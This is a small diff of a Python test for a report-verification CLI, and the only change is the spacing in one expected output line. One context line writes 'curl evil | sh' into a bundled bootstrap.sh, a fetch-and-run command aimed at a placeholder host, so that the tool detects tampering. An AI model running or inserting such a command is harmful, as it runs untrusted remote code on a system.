@@ -162,7 +162,7 @@ def test_a_report_covers_every_file_of_its_bundle(
     assert code == 0, err
     for name in names:
         assert f"{name}: matches the report" in out
-    assert f"image {IMAGE}: matches the report" in out
+    assert f"image      {IMAGE}: matches the report" in out
     # an edit to any bundle file, even bootstrap.sh, is drift now
     (bundle / "bootstrap.sh").write_text("curl evil | sh\n")
     code, out, err = cli(capsys, "verify", str(report), "--key", str(pub), "--lock", str(bundle))
